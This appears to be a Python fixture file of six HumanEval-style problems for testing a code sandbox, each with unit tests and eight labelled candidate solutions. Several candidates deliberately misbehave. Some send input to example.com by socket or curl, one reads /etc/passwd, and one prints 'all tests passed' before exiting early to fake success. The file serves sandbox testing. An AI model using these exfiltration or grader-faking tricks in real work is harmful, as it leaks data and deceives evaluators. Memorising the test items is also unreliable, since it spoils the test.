'''A small HumanEval-style problem set for tasks 13-14: six problems, each with a prompt, unit
tests (plain ``assert`` statements) and eight candidate solutions of known outcome, the way a
model's samples would come back: right, wrong, and some that hang, crash, blow the memory,
exit early or try to leave the sandbox (files outside the temporary folder, the network,
processes, the reference answers).

Each candidate is ``{"source": ..., "expected": status}``; the statuses are those of task 13
("passed", "failed", "error", "timeout", "memory"). Correct candidates per problem: 6, 4, 3,
2, 1, 0 (of 8).
'''


def _candidates(*pairs):
    return [{"expected": status, "source": source.strip() + "\n"} for status, source in pairs]


PROBLEMS = [
    {
        "name": "add",
        "prompt": 'def add(a: int, b: int) -> int:\n    """The sum of a and b."""\n',
        "tests": "assert add(2, 3) == 5\nassert add(-1, 1) == 0\nassert add(0, 0) == 0\n",
        "candidates": _candidates(
            ("passed", "def add(a, b):\n    return a + b"),
            ("passed", "def add(a, b):\n    return b + a"),
            ("passed", "def add(a, b):\n    return sum((a, b))"),
            ("passed", "import operator\n\ndef add(a, b):\n    return operator.add(a, b)"),
            ("passed", "def add(a, b):\n    total = a\n    total += b\n    return total"),
            ("passed", "def add(a, b):\n    print('adding', a, b)\n    return a + b"),
            ("failed", "def add(a, b):\n    return a - b"),
            ("failed", "def add(a, b):\n    return a * b"),
        ),
    },
    {
        "name": "fizzbuzz",
        "prompt": ('def fizzbuzz(n: int) -> list[str]:\n    """"1".."n" as strings, with "Fizz" for '
                   'multiples of 3, "Buzz" of 5, "FizzBuzz" of both."""\n'),
        "tests": ('assert fizzbuzz(5) == ["1", "2", "Fizz", "4", "Buzz"]\n'
                  'assert fizzbuzz(15)[-1] == "FizzBuzz"\nassert fizzbuzz(0) == []\n'),
        "candidates": _candidates(
            ("passed", '''
def fizzbuzz(n):
    out = []
    for i in range(1, n + 1):
        if i % 15 == 0:
            out.append("FizzBuzz")
        elif i % 3 == 0:
            out.append("Fizz")
        elif i % 5 == 0:
            out.append("Buzz")
        else:
            out.append(str(i))
    return out'''),
            ("passed", '''
def fizzbuzz(n):
    return ["Fizz" * (i % 3 == 0) + "Buzz" * (i % 5 == 0) or str(i) for i in range(1, n + 1)]'''),
            ("passed", '''
def fizzbuzz(n):
    words = {3: "Fizz", 5: "Buzz"}
    return ["".join(w for d, w in words.items() if i % d == 0) or str(i) for i in range(1, n + 1)]'''),
            ("passed", '''
def fizzbuzz(n):
    if n == 0:
        return []
    word = "Fizz" * (n % 3 == 0) + "Buzz" * (n % 5 == 0)
    return fizzbuzz(n - 1) + [word or str(n)]'''),
            ("failed", '''
def fizzbuzz(n):
    return ["Fizz" * (i % 3 == 0) + "Buzz" * (i % 5 == 0) or str(i) for i in range(n)]'''),
            ("timeout", '''
def fizzbuzz(n):
    out, i = [], 1
    while i <= n:          # forgets i += 1: loops for ever, allocating nothing
        out.append("Fizz") if i % 3 == 0 else None
    return out'''),
            ("error", '''
def fizzbuzz(n):
    return [str(i) if i % (n // 100) else "Fizz" for i in range(1, n + 1)]'''),
            ("error", '''
import sys
def fizzbuzz(n):
    return []
sys.exit(0)'''),
        ),
    },
    {
        "name": "is_palindrome",
        "prompt": ('def is_palindrome(s: str) -> bool:\n    """Does s read the same backwards, ignoring '
                   'case and everything but letters and digits?"""\n'),
        "tests": ('assert is_palindrome("A man, a plan, a canal: Panama")\n'
                  'assert not is_palindrome("race a car")\nassert is_palindrome("")\n'),
        "candidates": _candidates(
            ("passed", '''
def is_palindrome(s):
    kept = [c.lower() for c in s if c.isalnum()]
    return kept == kept[::-1]'''),
            ("passed", '''
import re
def is_palindrome(s):
    t = re.sub(r"[^0-9a-z]", "", s.lower())
    return t == t[::-1]'''),
            ("passed", '''
def is_palindrome(s):
    t = "".join(filter(str.isalnum, s)).casefold()
    i, j = 0, len(t) - 1
    while i < j:
        if t[i] != t[j]:
            return False
        i, j = i + 1, j - 1
    return True'''),
            ("failed", '''
def is_palindrome(s):
    t = [c for c in s if c.isalnum()]
    return t == t[::-1]'''),
            ("memory", '''
def is_palindrome(s):
    table = [0] * 10**10
    t = [c.lower() for c in s if c.isalnum()]
    return t == t[::-1]'''),
            ("error", '''
def is_palindrome(s):
    with open("/tmp/llm-course-escape.txt", "w") as f:
        f.write(s)
    t = [c.lower() for c in s if c.isalnum()]
    return t == t[::-1]'''),
            ("error", '''
def is_palindrome(s):
    t = [c.lower() for c in s if c.isalnum()]
    return t == reversed_list(t)'''),
            ("error", '''
import os
print("all tests passed")
os._exit(0)'''),
        ),
    },
    {
        "name": "running_max",
        "prompt": ('def running_max(xs: list[int]) -> list[int]:\n    """The largest value so far at '
                   'each position."""\n'),
        "tests": ("assert running_max([3, 1, 4, 1, 5]) == [3, 3, 4, 4, 5]\n"
                  "assert running_max([]) == []\nassert running_max([-2, -5]) == [-2, -2]\n"),
        "candidates": _candidates(
            ("passed", '''
def running_max(xs):
    out = []
    for x in xs:
        out.append(x if not out else max(out[-1], x))
    return out'''),
            ("passed", '''
import itertools
def running_max(xs):
    return list(itertools.accumulate(xs, max))'''),
            ("failed", '''
def running_max(xs):
    return [max(xs)] * len(xs)'''),
            ("failed", '''
def running_max(xs):
    best, out = 0, []
    for x in xs:
        best = max(best, x)
        out.append(best)
    return out'''),
            ("error", '''
import socket
def running_max(xs):
    socket.create_connection(("example.com", 80), timeout=1).sendall(repr(xs).encode())
    return xs'''),
            ("error", '''
def running_max(xs)
    return xs'''),
            ("timeout", '''
import time
def running_max(xs):
    time.sleep(60)
    return xs'''),
            ("failed", '''
def running_max(xs):
    return sorted(xs)'''),
        ),
    },
    {
        "name": "word_count",
        "prompt": ('def word_count(text: str) -> dict[str, int]:\n    """How often each word occurs, '
                   'words split on whitespace and lowercased."""\n'),
        "tests": ('assert word_count("the cat  the Hat") == {"the": 2, "cat": 1, "hat": 1}\n'
                  'assert word_count("") == {}\n'),
        "candidates": _candidates(
            ("passed", '''
from collections import Counter
def word_count(text):
    return dict(Counter(text.lower().split()))'''),
            ("failed", '''
from collections import Counter
def word_count(text):
    return dict(Counter(text.split()))'''),
            ("failed", '''
from collections import Counter
def word_count(text):
    return dict(Counter(text.lower().split(" ")))'''),
            ("error", '''
import subprocess
def word_count(text):
    subprocess.run(["curl", "-d", text, "http://example.com"])
    return {}'''),
            ("error", '''
def word_count(text):
    secret = open("/etc/passwd").read()
    return {}'''),
            ("memory", '''
def word_count(text):
    cache = []
    while True:
        cache.append(bytes(10**8))'''),
            ("error", '''
def word_count(text):
    return word_count(text.lower())'''),
            ("failed", '''
def word_count(text):
    return {w: 1 for w in text.lower().split()}'''),
        ),
    },
    {
        "name": "gcd",
        "prompt": ('def gcd(a: int, b: int) -> int:\n    """The greatest common divisor of two '
                   'positive integers."""\n'),
        "tests": "assert gcd(12, 18) == 6\nassert gcd(7, 5) == 1\nassert gcd(9, 3) == 3\n",
        "candidates": _candidates(
            ("failed", "def gcd(a, b):\n    return min(a, b)"),
            ("failed", "def gcd(a, b):\n    return a % b"),
            ("failed", "def gcd(a, b):\n    return abs(a - b)"),
            ("failed", "import math\n\ndef gcd(a, b):\n    return math.lcm(a, b)"),
            ("failed", "def gcd(a, b):\n    pass"),
            ("error", "def gcd(a, b):\n    return math.gcd(a, b)"),
            ("error", "def gcd(a, b):\n    return gcd(b, a % b)"),
            ("error", "def gcd(a, b):\n    raise NotImplementedError"),
        ),
    },
]
